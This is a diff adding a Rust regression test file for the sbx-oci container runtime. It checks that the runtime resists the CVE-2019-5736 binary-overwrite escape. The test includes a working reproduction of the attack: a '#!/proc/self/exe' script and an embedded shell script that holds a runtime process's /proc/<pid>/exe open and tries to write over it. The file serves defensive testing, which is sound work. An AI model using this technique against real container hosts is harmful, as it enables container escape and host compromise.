@@ -1,0 +1,189 @@
+//! The runtime binary is out of the container's reach (CVE-2019-5736 class):
+//! a process in the container cannot overwrite sbx-oci through
+//! /proc/<pid>/exe of a runtime process that joins the container.
+
+mod common;
+
+use std::io::Write;
+use std::os::unix::fs::PermissionsExt;
+use std::path::Path;
+use std::process::{Command, Stdio};
+use std::time::{Duration, Instant};
+
+use common::Env;
+use serde_json::{Value, json};
+
+/// While a container is created, its init process is still a fork of the
+/// runtime: its /proc/<pid>/exe must not be writable, even by root.
+#[test]
+fn init_exe_cannot_be_opened_for_writing() {
+    let mut env = Env::new("exe");
+    let id = env.id("c");
+    let bundle = env.bundle(&id, &["true"]);
+    env.ok(&["create", "--bundle", bundle.to_str().unwrap(), &id]);
+    let pid = env.pid(&id);
+    let exe = format!("/proc/{pid}/exe");
+    let err = std::fs::OpenOptions::new()
+        .write(true)
+        .open(&exe)
+        .unwrap_err();
+    assert_eq!(err.raw_os_error(), Some(libc::EROFS), "{exe}: {err}");
+    env.ok(&["delete", "--force", &id]);
+    env.assert_gone(&id);
+}
+
+/// The attack itself: the container holds /proc/<pid>/exe of a runtime
+/// process that `exec` made re-execute the runtime binary inside the
+/// container (a `#!/proc/self/exe` script), then writes through it once that
+/// process has exited. The binary on the host must stay intact.
+#[test]
+fn container_cannot_overwrite_runtime_binary() {
+    let mut env = Env::new("cve");
+    // Attack a copy, so a failure cannot damage the binary under test.
+    let victim = env.dir.join("sbx-oci-victim");
+    std::fs::copy(common::BIN, &victim).unwrap();
+    let before = std::fs::read(&victim).unwrap();
+
+    let attack = env.dir.join("attack");
+    std::fs::create_dir_all(&attack).unwrap();
+    // `--log` swallows the script path the kernel inserts, so the runtime
+    // parses `update --resources -` and waits on stdin: it stays alive
+    // inside the container until the test closes that pipe.
+    std::fs::write(attack.join("evil"), "#!/proc/self/exe --log\n").unwrap();
+    std::fs::set_permissions(attack.join("evil"), std::fs::Permissions::from_mode(0o755)).unwrap();
+    std::fs::write(attack.join("attacker.sh"), ATTACKER).unwrap();
+
+    // A rootfs that can run the (dynamically linked) runtime binary, as any
+    // glibc-based image can: busybox plus the binary's libraries.
+    let rootfs = rootfs_with_libraries_of(&env, &victim);
+
+    let id = env.id("c");
+    let bundle = env.bundle_with(&id, &["sh", "/root/attacker.sh"], |c| {
+        c["root"]["path"] = Value::from(rootfs.to_str().unwrap());
+        c["mounts"].as_array_mut().unwrap().push(json!({
+            "destination": "/root", "type": "bind",
+            "source": attack.to_str().unwrap(), "options": ["rbind", "rw"]
+        }));
+    });
+    let run = |args: &[&str]| {
+        Command::new(&victim)
+            .arg("--root")
+            .arg(&env.root)
+            .args(args)
+            .stdin(Stdio::null())
+            .stdout(Stdio::null())
+            .stderr(Stdio::null())
+            .status()
+            .unwrap()
+    };
+    assert!(run(&["run", "-d", "--bundle", bundle.to_str().unwrap(), &id]).success());
+    wait_for(&attack.join("ready"), "", Duration::from_secs(10));
+
+    // The trigger: exec the script; the kernel runs /proc/self/exe.
+    let mut exec = Command::new(&victim)
+        .arg("--root")
+        .arg(&env.root)
+        .args([
+            "exec",
+            &id,
+            "/root/evil",
+            "update",
+            "--resources",
+            "-",
+            "ghost",
+        ])
+        .stdin(Stdio::piped())
+        .stdout(Stdio::null())
+        .stderr(Stdio::null())
+        .spawn()
+        .unwrap();
+    let opened = wait_for(&attack.join("log"), "opened", Duration::from_secs(20));
+    // Let the runtime process exit; the attacker now tries to write.
+    exec.stdin.take().unwrap().write_all(b"{}").unwrap();
+    let _ = exec.wait();
+    let log = wait_for(&attack.join("log"), "done", Duration::from_secs(30));
+
+    let after = std::fs::read(&victim).unwrap();
+    assert!(after == before, "the runtime binary was modified: {log}");
+    assert!(
+        opened.contains("opened"),
+        "the attack reached the runtime process: {log}"
+    );
+    assert!(!log.contains("WROTE"), "{log}");
+    assert!(
+        log.contains("Read-only file system"),
+        "writes were refused: {log}"
+    );
+
+    assert!(run(&["delete", "--force", &id]).success());
+    env.assert_gone(&id);
+}
+
+/// A copy of the busybox rootfs plus every library `ldd` lists for `binary`.
+fn rootfs_with_libraries_of(env: &Env, binary: &Path) -> std::path::PathBuf {
+    let rootfs = env.dir.join("rootfs");
+    let status = Command::new("cp")
+        .arg("-a")
+        .arg(common::busybox_rootfs())
+        .arg(&rootfs)
+        .status()
+        .unwrap();
+    assert!(status.success());
+    let ldd = Command::new("ldd").arg(binary).output().unwrap();
+    let text = String::from_utf8_lossy(&ldd.stdout);
+    let libs = text
+        .split_whitespace()
+        .filter(|w| w.starts_with('/'))
+        .map(Path::new);
+    for lib in libs {
+        let dest = rootfs.join(lib.strip_prefix("/").unwrap());
+        std::fs::create_dir_all(dest.parent().unwrap()).unwrap();
+        std::fs::copy(lib, &dest).unwrap();
+    }
+    rootfs
+}
+
+/// Waits until `path` exists and contains `needle`; returns its text.
+fn wait_for(path: &Path, needle: &str, limit: Duration) -> String {
+    let deadline = Instant::now() + limit;
+    loop {
+        if let Ok(text) = std::fs::read_to_string(path) {
+            if text.contains(needle) {
+                return text;
+            }
+        }
+        assert!(
+            Instant::now() < deadline,
+            "timed out waiting for {needle:?} in {}: {:?}",
+            path.display(),
+            std::fs::read_to_string(path)
+        );
+        std::thread::sleep(Duration::from_millis(20));
+    }
+}
+
+/// Finds a process whose exe is not busybox (the runtime), holds its exe
+/// open, and once it has exited tries to write through the held file.
+const ATTACKER: &str = r#"
+cd /root
+echo ready > ready
+while true; do
+  for p in /proc/[0-9]*; do
+    exe=$(readlink $p/exe 2>/dev/null) || continue
+    case "$exe" in *busybox*|"") continue;; esac
+    exec 3< $p/exe 2>/dev/null || continue
+    echo "opened $p $exe" >> log
+    i=0
+    while [ $i -lt 40 ]; do
+      if { printf 'PWNED' > /proc/self/fd/3; } 2>> log; then
+        echo WROTE >> log
+        break
+      fi
+      i=$((i+1))
+      sleep 0.05
+    done
+    echo done >> log
+    sleep 3600
+  done
+done
+"#;
